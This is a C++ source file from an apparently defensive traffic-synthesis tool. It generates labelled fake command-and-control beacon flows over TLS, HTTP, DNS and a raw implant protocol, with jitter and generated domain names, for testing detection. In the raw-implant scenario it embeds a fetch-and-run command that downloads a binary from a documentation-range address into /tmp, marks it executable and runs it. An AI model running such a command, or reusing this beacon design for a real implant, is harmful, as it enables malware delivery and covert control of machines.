#include "mamori/synth/c2_beacons.h"

#include <fmt/format.h>

#include "mamori/synth/recipes.h"

namespace mamori::synth {
namespace {

constexpr char kBase64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

std::string random_base64(Rng& rng, std::size_t length) {
  std::string out(length, 'A');
  for (auto& c : out) c = kBase64[rng.below(64)];
  return out;
}

std::string random_label(Rng& rng, std::size_t length) {
  static constexpr char kChars[] = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string out(length, 'a');
  for (std::size_t i = 0; i < length; ++i) out[i] = kChars[rng.below(i == 0 ? 26 : 36)];
  return out;
}

}  // namespace

BeaconScenario::BeaconScenario(const SynthContext& ctx, BeaconConfig config, std::uint64_t seed)
    : ctx_(ctx), config_(std::move(config)), rng_(seed), count_(config_.hosts.size(), 0) {
  for (std::size_t i = 0; i < config_.hosts.size(); ++i) {
    const Timestamp first =
        ctx_.timing.start + Duration{static_cast<std::int64_t>(
                                rng_.below(static_cast<std::uint64_t>(config_.period.nanos)))};
    if (first < ctx_.timing.end) due_.push({first, i});
  }
}

std::optional<Timestamp> BeaconScenario::next_start() const {
  if (due_.empty()) return std::nullopt;
  return due_.top().time;
}

void BeaconScenario::start_next(FlowSink& sink) {
  const Due due = due_.top();
  due_.pop();
  if (config_.kind == BeaconConfig::Kind::raw) {
    persistent(sink, due.host, due.time);
    return;
  }
  beacon(sink, due.host, due.time);
  const std::int64_t period = config_.period.nanos;
  const std::int64_t spread = period / 1000 * config_.jitter_per_mille;
  const Timestamp next = due.time + Duration{period + rng_.between(-spread, spread)};
  if (next < ctx_.timing.end) due_.push({next, due.host});
}

std::string BeaconScenario::sni_for(std::size_t host) {
  switch (config_.sni) {
    case BeaconConfig::Sni::fixed:
      return config_.name;
    case BeaconConfig::Sni::dga: {
      // A few generated names per host and day, as domain generation algorithms make.
      Rng names(ctx_.seed ^ hash_label(config_.scenario) ^ (host * 0x9e3779b97f4a7c15ULL));
      std::string choice;
      const auto pick = rng_.below(3);
      for (std::uint64_t i = 0; i <= pick; ++i) choice = random_label(names, 12);
      return choice + "." + config_.name;
    }
    case BeaconConfig::Sni::cover:
      break;
  }
  return fmt::format("static-{:04x}.example.com", (host * 2654435761u) & 0xffff);
}

void BeaconScenario::lookup(FlowSink& sink, std::size_t host, Timestamp time,
                            const std::string& name, const IpAddress& answer) {
  const IpAddress& client = config_.hosts[host];
  // Half the hosts use their ISP's resolver (a DD flow the sieve never sees), half a public
  // resolver abroad (DF: the domain rule selects it).
  const bool domestic = host % 2 == 0;
  const IpAddress resolver =
      domestic ? domestic_resolver(ctx_, host) : public_resolver(host, !client.is_v4());
  const FlowPath path = make_path(ctx_, rng_, client, ephemeral_port(rng_), resolver, 53);
  DnsLookup query{name, answer.is_v4() ? dns_type::a : dns_type::aaaa, {{}, {answer}, false}};
  MadeFlow made = dns_flow(ctx_, rng_, path, time, query, {});
  made.facts.scenario = config_.scenario + "_dns";
  made.facts.attack = true;
  sink.add(std::move(made.flow), std::move(made.facts));
}

void BeaconScenario::beacon(FlowSink& sink, std::size_t host, Timestamp time) {
  const IpAddress& client = config_.hosts[host];
  const IpAddress server = config_.servers[rng_.below(config_.servers.size())];
  const std::uint32_t count = count_[host]++;
  std::string name = config_.kind == BeaconConfig::Kind::http
                         ? fmt::format("{}.{}", host % 2 ? "api" : "cdn", config_.name)
                         : sni_for(host);
  Timestamp start = time;
  if (config_.lookup_every > 0 && count % config_.lookup_every == 0) {
    lookup(sink, host, time, name, server);
    start = time + Duration::millis(300);
  }
  const FlowPath path = make_path(ctx_, rng_, client, ephemeral_port(rng_), server, config_.port);
  MadeFlow made;
  if (config_.kind == BeaconConfig::Kind::tls) {
    TlsSession session;
    session.profile = config_.profile;
    session.sni = name;
    session.exchanges = {{rng_.between(150, 420), rng_.between(60, 700)}};
    session.server_flight =
        static_cast<std::uint64_t>(rng_.between(700, 1200));  // small self-signed cert
    made = tls_flow(ctx_, rng_, path, start, session, {});
  } else {
    const std::string id =
        fmt::format("{:08x}", static_cast<std::uint32_t>(hash_label(client.to_string())));
    HttpExchange exchange;
    exchange.request.host = name;
    exchange.request.user_agent = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0)";
    const bool report = count % 3 == 1;  // results of the task given the beacon before
    exchange.request.method = report ? "POST" : "GET";
    exchange.request.target =
        fmt::format("/api/v2/{}?id={}&s={}", report ? "result" : "check", id, ctx_.content_marker);
    if (report) {
      exchange.request.body =
          fmt::format("out={}&s={}", random_base64(rng_, 96), ctx_.content_marker);
    }
    exchange.response.content_type = "application/json";
    exchange.response.server = "Apache";
    if (count % 3 == 0) {
      const auto command = kBotCommands[count / 3 % std::size(kBotCommands)];
      exchange.response.body = fmt::format(R"({{"id":{},"task":"{} {}","ref":"{}"}})", count,
                                           command, random_base64(rng_, 80), ctx_.content_marker);
    } else {
      exchange.response.body = R"({"status":"idle","next":60})";
    }
    exchange.response_fill = FillKind::text;
    made = http_flow(ctx_, rng_, path, start, {std::move(exchange)}, {});
  }
  made.facts.scenario = config_.scenario;
  made.facts.attack = true;
  sink.add(std::move(made.flow), std::move(made.facts));
}

void BeaconScenario::persistent(FlowSink& sink, std::size_t host, Timestamp time) {
  const IpAddress& client = config_.hosts[host];
  const IpAddress server = config_.servers[rng_.below(config_.servers.size())];
  if (config_.lookup_every > 0) {
    lookup(sink, host, time, config_.name, server);
    time = time + Duration::millis(300);
  }
  const FlowPath path = make_path(ctx_, rng_, client, ephemeral_port(rng_), server, config_.port);
  const auto frame = [&](std::string_view body, std::size_t random_bytes) {
    std::vector<std::uint8_t> out(kImplantMagic.begin(), kImplantMagic.end());
    out.push_back(static_cast<std::uint8_t>((body.size() + random_bytes) >> 8));
    out.push_back(static_cast<std::uint8_t>(body.size() + random_bytes));
    out.insert(out.end(), body.begin(), body.end());
    const std::size_t at = out.size();
    out.resize(at + random_bytes);
    rng_.fill(std::span(out).subspan(at));
    return out;
  };
  std::vector<Message> messages;
  messages.push_back({Side::client, frame("", 40), 0, FillKind::random, {}});
  messages.push_back({Side::server, frame("", 16), 0, FillKind::random, Duration::millis(3)});
  const Duration round = path.client_rtt + path.server_rtt;
  Timestamp at = time + round;
  for (std::uint32_t beat = 1;; ++beat) {
    const std::int64_t period = config_.period.nanos;
    const std::int64_t spread = period / 1000 * config_.jitter_per_mille;
    const Duration wait{period + rng_.between(-spread, spread)};
    at = at + wait;
    if (at >= ctx_.timing.end) break;
    messages.push_back(
        {Side::client, frame("", 20), 0, FillKind::random, Duration{wait.nanos - round.nanos}});
    std::string task;
    if (beat % 5 == 2) {
      task = fmt::format("{}198.51.100.{}/bins/x86 -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k",
                         kBotCommands[1], 10 + beat % 200);
    }
    messages.push_back({Side::server, frame(task, 12), 0, FillKind::random, Duration::millis(2)});
  }
  MadeFlow made = tcp_flow(ctx_, rng_, path, time, std::move(messages), TcpClosing::none, {});
  made.facts.scenario = config_.scenario;
  made.facts.attack = true;
  sink.add(std::move(made.flow), std::move(made.facts));
}

std::vector<std::unique_ptr<Scenario>> make_c2_scenarios(const SynthContext& ctx) {
  const Infrastructure& infra = ctx.infra;
  // Split the infected IPv4 hosts over the variants in fixed proportions.
  static constexpr std::uint32_t kShares[] = {8, 6, 8, 6, 8, 6, 4};
  std::uint32_t total = 0;
  for (const auto share : kShares) total += share;
  std::vector<std::vector<IpAddress>> groups(std::size(kShares));
  std::size_t next = 0;
  const std::size_t count = infra.infected.size();
  for (std::size_t g = 0; g < groups.size(); ++g) {
    const std::size_t want = std::max<std::size_t>(1, count * kShares[g] / total);
    for (std::size_t i = 0; i < want && next < count; ++i)
      groups[g].push_back(infra.infected[next++]);
  }
  for (; next < count; ++next) groups[next % groups.size()].push_back(infra.infected[next]);
  std::vector<IpAddress> net_hosts;
  for (std::uint64_t i = 0; i < 4; ++i) {
    net_hosts.push_back(AddressPlan::host_in(infra.c2_net, i * 3 + 1, ctx.seed));
  }
  std::vector<IpAddress> net6_hosts;
  for (std::uint64_t i = 0; i < 2; ++i) {
    net6_hosts.push_back(AddressPlan::host_in(infra.c2_net6, i, ctx.seed));
  }
  using Kind = BeaconConfig::Kind;
  using Sni = BeaconConfig::Sni;
  const Duration period = ctx.timing.beacon_period;
  std::vector<BeaconConfig> configs = {
      {"c2_tls_ip",
       Kind::tls,
       groups[0],
       {infra.c2_ip},
       443,
       TlsProfile::chrome,
       Sni::cover,
       "",
       period,
       20,
       0},
      {"c2_tls_net", Kind::tls, groups[1], net_hosts, 443, TlsProfile::firefox, Sni::cover, "",
       period, 20, 0},
      {"c2_tls_domain",
       Kind::tls,
       groups[2],
       {infra.c2_domain_server},
       443,
       TlsProfile::go,
       Sni::fixed,
       std::string(kC2Domain),
       period,
       20,
       5},
      {"c2_tls_dga",
       Kind::tls,
       groups[3],
       {infra.c2_dga_server},
       443,
       TlsProfile::chrome,
       Sni::dga,
       std::string(kC2DgaSuffix),
       period,
       20,
       3},
      {"c2_tls_ja",
       Kind::tls,
       groups[4],
       {infra.c2_ja_server},
       443,
       TlsProfile::implant,
       Sni::cover,
       "",
       period,
       20,
       0},
      {"c2_http",
       Kind::http,
       groups[5],
       {infra.c2_http_server},
       80,
       TlsProfile::chrome,
       Sni::cover,
       std::string(kC2HttpZone),
       period,
       20,
       0},
      {"c2_raw",
       Kind::raw,
       groups[6],
       {infra.c2_raw_server},
       kC2RawPort,
       TlsProfile::chrome,
       Sni::cover,
       std::string(kC2RelayDomain),
       period,
       20,
       1},
      {"c2_tls_net6", Kind::tls, infra.infected_v6, net6_hosts, 443, TlsProfile::safari, Sni::cover,
       "", period, 20, 0},
      {"c2_tls_ff",
       Kind::tls,
       infra.ff_victims,
       {infra.c2_ip},
       443,
       TlsProfile::chrome,
       Sni::cover,
       "",
       period,
       20,
       0},
  };
  std::vector<std::unique_ptr<Scenario>> out;
  for (auto& config : configs) {
    if (config.hosts.empty()) continue;
    const std::uint64_t seed = ctx.seed ^ hash_label(config.scenario);
    out.push_back(std::make_unique<BeaconScenario>(ctx, std::move(config), seed));
  }
  return out;
}

}  // namespace mamori::synth
